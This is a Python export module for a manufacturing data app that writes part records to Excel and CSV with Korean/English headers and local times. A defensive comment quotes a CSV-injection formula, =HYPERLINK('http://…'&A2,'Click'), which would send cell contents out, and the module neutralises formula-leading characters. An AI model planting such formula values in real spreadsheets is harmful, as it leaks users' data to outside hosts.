"""Tables out to the files engineers open: Excel .xlsx and CSV that Excel reads (UTF-8 with BOM), times on the
plant's clock.

The other direction of `collect.files`: a part-record export uses the column names the importer recognises
(`시각`, `설비`, `param:<name>`, …), so a file taken out, corrected in Excel and brought back in is read as the
same records. Interfaces hand over a frame computed by a capability function; nothing is computed here.
"""

from __future__ import annotations

import io
import json
import math
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any, Literal
from zoneinfo import ZoneInfo

import numpy as np
import pandas as pd

from sandan.collect.ingest import MEASURE_PREFIX, PARAM_PREFIX
from sandan.domain import InvalidInput
from sandan.store import Store

Format = Literal["xlsx", "csv"]
FORMATS: tuple[Format, ...] = ("xlsx", "csv")
MAX_ROWS = 500_000  # well inside Excel's 1,048,576 rows, and a file a browser downloads in seconds
MEDIA_TYPES = {
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "csv": "text/csv; charset=utf-8",
}
Labels = Mapping[str, Mapping[str, str]]  # column -> {"en": …, "ko": …}

# The part record's own columns, named as the importer's header list knows them (collect.files.HEADER_ROLES).
PART_HEADERS = {
    "time": {"en": "time", "ko": "시각"},
    "machine_id": {"en": "machine", "ko": "설비"},
    "part_id": {"en": "part_id", "ko": "부품번호"},
    "lot_id": {"en": "lot", "ko": "로트번호"},
    "product": {"en": "product", "ko": "제품"},
    "result": {"en": "result", "ko": "판정"},
    "defect_type": {"en": "defect_type", "ko": "불량유형"},
}


@dataclass(frozen=True)
class ExportFile:
    """A file ready to send: its bytes, media type and a file name (ASCII-safe stem + extension)."""

    content: bytes
    media_type: str
    filename: str


def check_format(fmt: str) -> Format:
    if fmt not in FORMATS:
        raise InvalidInput(
            f"unknown file format {fmt!r}; use xlsx (Excel) or csv",
            f"알 수 없는 파일 형식 {fmt!r}입니다. xlsx(엑셀) 또는 csv를 쓰세요",
            code="bad_format",
            field="format",
        )
    return fmt  # type: ignore[return-value]


def _too_many(n: int) -> InvalidInput:
    return InvalidInput(
        f"{n:,} rows are more than one file holds ({MAX_ROWS:,}); choose a shorter period or fewer machines",
        f"{n:,}행은 파일 하나에 담을 수 있는 {MAX_ROWS:,}행보다 많습니다. 기간을 줄이거나 설비를 줄여 주세요",
        code="too_many_rows",
    )


def _local(frame: pd.DataFrame, zone: str) -> pd.DataFrame:
    """Time columns on the plant's clock without a zone (Excel has none; the header names it)."""
    out = frame.copy()
    for c in out.columns:
        if isinstance(out[c].dtype, pd.DatetimeTZDtype):
            out[c] = out[c].dt.tz_convert(ZoneInfo(zone)).dt.tz_localize(None)
    return out


def _header(column: str, frame: pd.DataFrame, labels: Labels, lang: str, zone: str) -> str:
    name = labels.get(column, {}).get("ko" if lang == "ko" else "en", column)
    if isinstance(frame[column].dtype, pd.DatetimeTZDtype):
        name = f"{name} ({zone})"
    return name


@dataclass(frozen=True)
class Sheet:
    """One sheet of a workbook: a frame, its columns' `labels` and the `percent` columns (ratios 0–1)."""

    title: str
    frame: pd.DataFrame
    labels: Labels = field(default_factory=dict)
    percent: Sequence[str] = ()


#: The first characters with which a spreadsheet reads a cell as a formula (OWASP, "CSV Injection"): a machine or
#: defect named =HYPERLINK("http://…"&A2,"Click") ran in whoever opened the export in Excel.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: Any) -> Any:
    """A text value as a spreadsheet shows it and never runs it: text a formula could begin with gets a leading
    apostrophe (the import takes it off again, so an export imports back as it was); other values as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and value not in ("-", "+"):
        return "'" + value
    return value


def table_file(
    frame: pd.DataFrame,
    fmt: str,
    *,
    name: str,
    labels: Labels | None = None,
    lang: str = "ko",
    zone: str = "Asia/Seoul",
    percent: Sequence[str] = (),
    legend: Sequence[tuple[str, str, str]] = (),
) -> ExportFile:
    """`frame` as an .xlsx workbook or a CSV file.

    Headers are the columns' `labels` in `lang` (the column name where none is given); zone-aware times are
    written on `zone`'s clock, which their header names. In .xlsx, `percent` columns (ratios 0–1) get a percent
    format, the header row stays in view, and `legend` rows (column, label, unit) fill a second sheet."""
    fmt = check_format(fmt)
    if len(frame) > MAX_ROWS:
        raise _too_many(len(frame))
    labels = labels or {}
    if fmt == "csv":
        headers = [_header(c, frame, labels, lang, zone) for c in frame.columns]
        # a ratio reads 0.735, not 0.7350000000000001 (other numbers stay exact: a file imports back as it was)
        shown = frame.assign(**{c: frame[c].round(6) for c in percent if c in frame.columns})
        text_columns = [
            c
            for c in shown.columns
            if pd.api.types.is_object_dtype(shown[c]) or pd.api.types.is_string_dtype(shown[c])
        ]
        shown = shown.assign(**{c: shown[c].map(spreadsheet_text) for c in text_columns})
        text = _local(shown, zone).to_csv(
            index=False, header=headers, date_format="%Y-%m-%d %H:%M:%S", lineterminator="\r\n"
        )
        return ExportFile(text.encode("utf-8-sig"), MEDIA_TYPES["csv"], _filename(name, "csv", zone))
    sheets = [Sheet("data", frame, labels, percent)]
    if legend:
        ko = lang == "ko"
        sheets.append(
            Sheet(
                "열 설명" if ko else "columns",
                pd.DataFrame(list(legend), columns=["column", "label", "unit"]),
                {
                    "column": {"ko": "열", "en": "column"},
                    "label": {"ko": "이름", "en": "label"},
                    "unit": {"ko": "단위", "en": "unit"},
                },
            )
        )
    return workbook_file(sheets, name=name, lang=lang, zone=zone)


def workbook_file(
    sheets: Sequence[Sheet], *, name: str, lang: str = "ko", zone: str = "Asia/Seoul"
) -> ExportFile:
    """Several tables as one .xlsx workbook, a sheet each (headers, times and percentages as in `table_file`).

    Written with XlsxWriter row by row in its constant-memory mode (rows go to disk as they are written): about
    1.6 times openpyxl's write-only pace here, in a fraction of the memory."""
    import xlsxwriter

    total = sum(len(s.frame) for s in sheets)
    if total > MAX_ROWS:
        raise _too_many(total)
    out = io.BytesIO()
    book = xlsxwriter.Workbook(
        out,
        {
            "constant_memory": True,
            "default_date_format": "yyyy-mm-dd hh:mm:ss",
            "strings_to_urls": False,
            "strings_to_formulas": False,
        },
    )
    try:
        for sheet in sheets:
            _write_sheet(book, sheet, lang, zone)
    finally:
        book.close()
    return ExportFile(out.getvalue(), MEDIA_TYPES["xlsx"], _filename(name, "xlsx", zone))


def _filename(name: str, ext: str, zone: str) -> str:
    return f"{name}-{datetime.now(ZoneInfo(zone)).strftime('%Y%m%d-%H%M')}.{ext}"


def _column(values: pd.Series) -> list[Any]:
    """A column's values as the writer takes them: Python numbers, text and datetimes; None for missing."""
    if pd.api.types.is_datetime64_any_dtype(values):
        return [None if pd.isna(v) else v.to_pydatetime() for v in values]
    out = values.astype(object).where(values.notna(), None).tolist()
    out = [v.item() if isinstance(v, np.generic) else v for v in out]
    # an infinite figure (parts made with no run time recorded: effectiveness before its cap) as the sign Excel
    # readers know; a spreadsheet cell has no number for it, and the writer stopped the whole report on it
    return [("∞" if v > 0 else "-∞") if isinstance(v, float) and math.isinf(v) else v for v in out]


def _write_sheet(book: Any, sheet: Sheet, lang: str, zone: str) -> None:
    """One sheet: a bold header row kept in view, columns sized to their first 200 values, ratios as percentages,
    durations (`*_s`) to the tenth of a second; cells carry no format of their own, so they take their column's."""
    headers = [_header(c, sheet.frame, sheet.labels, lang, zone) for c in sheet.frame.columns]
    frame = _local(sheet.frame, zone)
    ws = book.add_worksheet(sheet.title[:31])  # Excel's limit for a sheet name
    ws.freeze_panes(1, 0)
    percent = book.add_format({"num_format": "0.0%"})
    seconds = book.add_format({"num_format": "#,##0.0"})  # durations: to the tenth of a second, as the pages

    def look(column: str) -> Any:
        if column in sheet.percent:
            return percent
        numeric = pd.api.types.is_float_dtype(sheet.frame[column])
        return seconds if numeric and str(column).endswith("_s") else None

    for i, h in enumerate(headers):
        width = max([len(str(h))] + [len(str(v)) for v in frame.iloc[:200, i].tolist()])
        ws.set_column(i, i, min(max(width + 2, 10), 40), look(frame.columns[i]))
    ws.write_row(0, 0, headers, book.add_format({"bold": True}))
    columns = [_column(frame[c]) for c in frame.columns]
    write = ws.write_row
    for r, row in enumerate(zip(*columns, strict=True) if columns else (), start=1):
        write(r, 0, row)


def parts_frame(
    store: Store,
    company_id: str,
    start: datetime,
    end: datetime,
    machine_ids: list[str] | None = None,
    max_rows: int | None = MAX_ROWS,
) -> pd.DataFrame:
    """Part records in [start, end), oldest first, one column per process parameter (`param:<name>`) and measured
    characteristic (`measure:<name>`) — the layout `collect.files` imports. More than `max_rows` (None: any) is
    refused before they are read."""
    if max_rows is not None:
        n = store.query_parts(company_id, start, end, machine_ids, columns=["time"], ordered=False).num_rows
        if n > max_rows:
            raise _too_many(n)
    table = store.query_parts(company_id, start, end, machine_ids)
    frame = table.select([c for c in PART_HEADERS]).to_pandas()
    for column, prefix in (("params", PARAM_PREFIX), ("measures", MEASURE_PREFIX)):
        values = [json.loads(v) if v else {} for v in table.column(column).to_pylist()]
        names = list(dict.fromkeys(k for v in values for k in v))
        for k in names:
            frame[prefix + k] = np.array([v.get(k, np.nan) for v in values], dtype=float)
    return frame


def parts_file(
    store: Store,
    company_id: str,
    start: datetime,
    end: datetime,
    fmt: str,
    *,
    machine_ids: list[str] | None = None,
    lang: str = "ko",
    zone: str = "Asia/Seoul",
    column_labels: Labels | None = None,
) -> ExportFile:
    """Part records as a file (`parts_frame`); `column_labels` (a parameter's or measurement's name → {"en", "ko",
    "unit"}, e.g. a process model's `column_labels()`) describe those columns on the workbook's second sheet."""
    frame = parts_frame(store, company_id, start, end, machine_ids)
    labels = column_labels or {}
    legend = []
    for c in frame.columns:
        if c in PART_HEADERS:
            continue
        bare = c.split(":", 1)[-1]
        found = labels.get(bare, {})
        legend.append((c, found.get("ko" if lang == "ko" else "en", bare), found.get("unit", "")))
    stem = machine_ids[0] if machine_ids and len(machine_ids) == 1 else company_id
    return table_file(
        frame, fmt, name=f"parts-{stem}", labels=PART_HEADERS, lang=lang, zone=zone, legend=legend
    )
